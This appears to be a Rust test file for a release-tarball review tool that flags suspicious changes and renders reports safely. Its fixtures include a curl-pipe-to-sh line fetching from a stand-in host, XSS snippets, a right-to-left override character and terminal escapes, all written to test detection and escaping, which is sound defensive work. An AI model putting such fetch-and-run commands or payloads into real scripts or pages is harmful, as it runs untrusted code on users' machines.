//! What a report says of real and made-up changes, in each of its forms.

use std::sync::Arc;
use std::sync::OnceLock;

use palisade_review::explain::KnownBlobs;
use palisade_review::explain::Reason;
use palisade_review::report::{Limits, Report};
use palisade_review::{
    Budget, Content, Decisions, File, Kind, Scanner, Tree, read_tree, render, review,
};

use crate::support::real;

fn known() -> &'static KnownBlobs {
    static KNOWN: OnceLock<KnownBlobs> = OnceLock::new();
    KNOWN.get_or_init(KnownBlobs::shipped)
}

fn scanner() -> &'static Scanner {
    static SCANNER: OnceLock<Scanner> = OnceLock::new();
    SCANNER.get_or_init(|| Scanner::builtin().unwrap())
}

fn reviewed(old: &Tree, new: &Tree, git: Option<&Tree>) -> Report {
    review(
        old,
        new,
        git,
        scanner(),
        known(),
        &Limits::default(),
        &Decisions::default(),
    )
}

fn tree(name: &str) -> Option<Tree> {
    let path = real(name)?;
    Some(read_tree(&path, &Budget::default()).unwrap())
}

/// The report of a pair of real files.
fn pair(old: &str, new: &str) -> Option<Report> {
    Some(reviewed(&tree(old)?, &tree(new)?, None))
}

fn files_folded(report: &Report, reason: Reason) -> u64 {
    let group = report.folded.iter().find(|group| group.reason == reason);
    group.map_or(0, |group| group.files)
}

#[test]
fn a_reformatted_tree_folds() {
    let Some(report) = pair(
        "pairs/openssl-3.0.17-ssl-subset.tar.xz",
        "pairs/openssl-3.0.20-ssl-subset.tar.xz",
    ) else {
        return;
    };
    assert_eq!(report.counts.files, 187);
    let same = files_folded(&report, Reason::FormatOnly)
        + files_folded(&report, Reason::CommentsOnly)
        + files_folded(&report, Reason::LineEndings);
    assert!(same >= 150, "{:?}", report.folded);
}

#[test]
fn counts_are_those_of_git() {
    for (old, new, files) in [
        (
            "libssh2_1.10.0.orig.tar.gz",
            "libssh2_1.11.1.orig.tar.gz",
            484,
        ),
        ("less_590.orig.tar.gz", "less_668.orig.tar.gz", 124),
        (
            "c-ares_1.18.1.orig.tar.gz",
            "c-ares_1.34.5.orig.tar.gz",
            527,
        ),
        (
            "xz-utils_5.4.1.orig.tar.xz",
            "xz-utils_5.8.1.orig.tar.xz",
            574,
        ),
    ] {
        let path = |name: &str| format!("tarballs/{name}");
        let Some(report) = pair(&path(old), &path(new)) else {
            return;
        };
        eprintln!("{new}: {:?} {:?}", report.counts, report.folded);
        // Which files count as renamed is a matter of likeness: a few may fall otherwise.
        let told = report.counts.files.abs_diff(files);
        assert!(
            told <= files / 50,
            "{new}: {} files, git has {files}",
            report.counts.files
        );
    }
}

#[test]
fn benign_changes_fold() {
    for (case, reason) in [
        ("b04-reformat", Reason::FormatOnly),
        ("b08-crlf", Reason::LineEndings),
        ("b01-regenerated-configure", Reason::Generated),
        ("b02-po", Reason::Translation),
    ] {
        let path = |side: &str| format!("synth/changes/{case}.{side}.tar.xz");
        let Some(report) = pair(&path("old"), &path("new")) else {
            return;
        };
        assert!(
            files_folded(&report, reason) > 0,
            "{case}: {:#?}",
            report.files
        );
        assert_eq!(
            report.counts.unexplained_files, 0,
            "{case}: {:#?}",
            report.files
        );
    }
}

#[test]
fn a_release_is_held_against_its_tag() {
    for (case, rule) in [
        ("c01-m4-serial", "tarball-only-file"),
        ("c02-tarball-only", "tarball-only-file"),
        ("c03-tarball-differs", "tarball-file-differs-from-git"),
    ] {
        let read = |side: &str| tree(&format!("synth/changes/{case}.{side}.tar.xz"));
        let (Some(old), Some(new), Some(git)) = (read("old"), read("new"), read("git")) else {
            return;
        };
        let report = reviewed(&old, &new, Some(&git));
        let told = report
            .signals
            .iter()
            .any(|it| it.rule == rule && it.alarms());
        assert!(
            told || case == "c01-m4-serial",
            "{case}: {:#?}",
            report.signals
        );
    }
}

/// How many of the `.m4` files of real releases are known, and how many there are whose name is.
fn known_m4(known: &KnownBlobs, folder: &std::path::Path) -> (u32, u32) {
    let mut counts = (0, 0);
    let mut all = 0;
    for entry in fs_err::read_dir(folder).unwrap() {
        let tree = read_tree(&entry.unwrap().path(), &Budget::default()).unwrap();
        for file in tree.files.iter().filter(|file| file.path.ends_with(b".m4")) {
            let path = file.path.to_string();
            let name = path.rsplit('/').next().unwrap();
            all += 1;
            counts.0 += u32::from(known.get(&file.content.blob).is_some());
            counts.1 += u32::from(known.has_name(name));
        }
    }
    eprintln!(
        "known .m4 files: {} of {} with a known name, {all} in all",
        counts.0, counts.1
    );
    counts
}

#[test]
fn with_a_larger_list_most_m4_files_with_known_names_are_known() {
    use std::io::Read as _;
    let (Some(folder), Some(list)) = (real("tarballs"), real("known-autotools-blobs.tsv.xz"))
    else {
        return;
    };
    let (own, all) = known_m4(known(), &folder);
    assert!(own * 100 >= all * 15, "{own} of {all}");
    let mut text = String::new();
    let list = fs_err::File::open(list).unwrap();
    lzma_rust2::XzReader::new(list, true)
        .read_to_string(&mut text)
        .unwrap();
    let mut known = KnownBlobs::shipped();
    assert!(known.add_list(&text) > 30_000);
    let (more, all) = known_m4(&known, &folder);
    assert!(more * 100 >= all * 80, "{more} of {all}");
}

fn made(files: &[(&str, &[u8])]) -> Tree {
    let file = |(path, bytes): &(&str, &[u8])| File {
        path: (*path).into(),
        kind: Kind::Regular,
        mode: 0o644,
        content: Content {
            bytes: Arc::from(*bytes),
            blob: blake3::hash(bytes).as_bytes()[..20].try_into().unwrap(),
            sha256: [0; 32],
        },
    };
    Tree {
        name: "<b>made</b>".to_owned(),
        files: files.iter().map(file).collect(),
        ..Tree::default()
    }
}

pub(crate) fn hostile() -> Report {
    let old = made(&[("a.c", b"int one = 1;\n")]);
    let new = made(&[
        (
            "a.c",
            "int two\u{202e} = 1; // <script>alert('x')</script>\n".as_bytes(),
        ),
        ("b\u{1b}[31m`|\n.bin", b"\0\x01<img src=x>\0"),
    ]);
    reviewed(&old, &new, None)
}

#[test]
fn no_form_lets_anything_invisible_or_alive_through() {
    let report = hostile();
    let plain = |text: &str, _| text.to_owned();
    let mut terminal = Vec::new();
    render::terminal(&report, &mut terminal, &plain).unwrap();
    let html = render::html(&report);
    let forms = [
        String::from_utf8(terminal).unwrap(),
        render::markdown(&report),
        render::json(&report).unwrap(),
        render::sarif(&report).to_string(),
        html.clone(),
    ];
    for form in &forms {
        assert!(
            !form.contains('\u{202e}') && !form.contains('\u{1b}'),
            "{form}"
        );
    }
    assert!(forms[0].contains("<U+202E>"), "{}", forms[0]);
    assert!(html.contains("&lt;U+202E&gt;") && !html.contains("<script") && !html.contains("<img"));
    assert!(html.contains("<b>two"), "changed words are marked: {html}");
}

#[test]
fn what_can_do_most_is_to_be_read_first() {
    let old = made(&[("gone.c", b"int one;\nint two;\nint three;\n")]);
    let new = made(&[
        ("ChangeLog", b"much\nto\ntell\nof\nnothing\n"),
        ("doc/page.png", b"\x89PNG\0"),
        ("tests/data/a.bin", b"\0\x01\x02"),
        ("tests/run.sh", b"./demo\n./demo -x\n"),
        ("src/a.c", b"int a;\n"),
        ("configure.ac", b"AC_INIT\n"),
    ]);
    let report = reviewed(&old, &new, None);
    let paths: Vec<&str> = report.files.iter().map(|file| &*file.path).collect();
    let order = [
        "tests/data/a.bin",
        "configure.ac",
        "src/a.c",
        "tests/run.sh",
        "ChangeLog",
        "doc/page.png",
        "gone.c",
    ];
    assert_eq!(paths, order);
}

#[test]
fn licences_that_change_alike_are_told_once() {
    let names: Vec<String> = (0..9).map(|n| format!("src/f{n}.c")).collect();
    let side = |text: &'static [u8]| -> Vec<(&str, &[u8])> {
        names.iter().map(|name| (name.as_str(), text)).collect()
    };
    let old = made(&side(b"/* none */\nint a;\n"));
    let new = made(&side(b"/* SPDX-License-Identifier: 0BSD */\nint a;\n"));
    let page = render::markdown(&reviewed(&old, &new, None));
    assert!(
        page.contains("src/f3.c and 5 more`: `no SPDX line became 0BSD`"),
        "{page}"
    );
}

#[test]
fn the_page_has_the_advice_and_names_as_they_are() {
    let lock = |version: &str| {
        format!(
            "[[package]]\nname = \"Inflector\"\nversion = \"{version}\"\nchecksum = \"{version}\"\n"
        )
    };
    let (one, two) = (lock("1.0"), lock("1.1"));
    let script: &[u8] = b"#!/bin/sh\ncurl -s http://build.example.invalid/x | sh\n";
    let old = made(&[("Cargo.lock", one.as_bytes())]);
    let new = made(&[("Cargo.lock", two.as_bytes()), ("configure.sh", script)]);
    let report = reviewed(&old, &new, None);
    let page = render::html(&report);
    assert!(page.contains("<p id=\"advice\"><b>"), "{page}");
    assert!(page.contains("Inflector version"), "{page}");
}

#[test]
fn a_line_of_megabytes_takes_no_longer() {
    for part in ["a", "\u{1b}["] {
        let line = format!("key {}\n", part.repeat(2 << 20));
        let report = reviewed(&made(&[]), &made(&[("a.txt", line.as_bytes())]), None);
        assert_eq!(report.counts.added, 1);
    }
}

#[test]
fn what_is_odd_about_an_archive_is_told_once() {
    let mut new = crate::support::tree(b"\x1f\x8b\x08broken");
    new.files.clear();
    assert_eq!(new.signals.len(), 1);
    assert_eq!(reviewed(&made(&[]), &new, None).signals.len(), 1);
}

#[test]
fn a_file_into_which_no_rule_looks_is_told() {
    let large = vec![b'a'; (64 << 20) + 1];
    let report = reviewed(&made(&[]), &made(&[("a.txt", &large)]), None);
    let told: Vec<_> = report
        .signals
        .iter()
        .map(|it| (&*it.rule, &*it.path))
        .collect();
    assert_eq!(told, [("too-large", "a.txt")]);
    assert!(report.alarms());
}

#[test]
fn a_name_between_an_archive_and_what_is_in_it_hides_nothing() {
    let new = made(&[
        ("data.zip", b"PK\x03\x04\x14\0"),
        ("data.zip x", b"x"),
        ("data.zip!/run.sh", b"#!/bin/sh\necho\n"),
    ]);
    let report = reviewed(&made(&[]), &new, None);
    let found = report
        .signals
        .iter()
        .find(|it| it.rule == "nested-archive-added");
    assert!(found.unwrap().why.contains("programs"), "{found:?}");
}

#[test]
fn json_has_the_stable_fields() {
    let json: serde_json::Value = serde_json::from_str(&render::json(&hostile()).unwrap()).unwrap();
    assert_eq!(json["files"].as_array().unwrap().len(), 2);
    let signal = &json["signals"][0];
    for field in ["rule", "severity", "path", "line", "excerpt", "why"] {
        assert!(signal.get(field).is_some(), "{field}: {signal}");
    }
    assert!(["warning", "critical"].contains(&signal["severity"].as_str().unwrap()));
}

#[test]
fn a_report_comes_back_from_its_compact_form() {
    let report = hostile();
    let bytes = postcard::to_stdvec(&report).unwrap();
    assert_eq!(postcard::from_bytes::<Report>(&bytes).unwrap(), report);
}

#[test]
fn ten_thousand_changed_files_make_a_page_of_a_few_megabytes() {
    let names: Vec<String> = (0..10_000).map(|n| format!("src/f{n:05}.c")).collect();
    let side = |text: &'static [u8]| -> Vec<(&str, &[u8])> {
        names.iter().map(|name| (name.as_str(), text)).collect()
    };
    let (old, new) = (made(&side(b"int a;\n")), made(&side(b"int b;\n")));
    let page = render::html(&reviewed(&old, &new, None));
    assert!(page.len() < 6 << 20, "{} bytes", page.len());
}
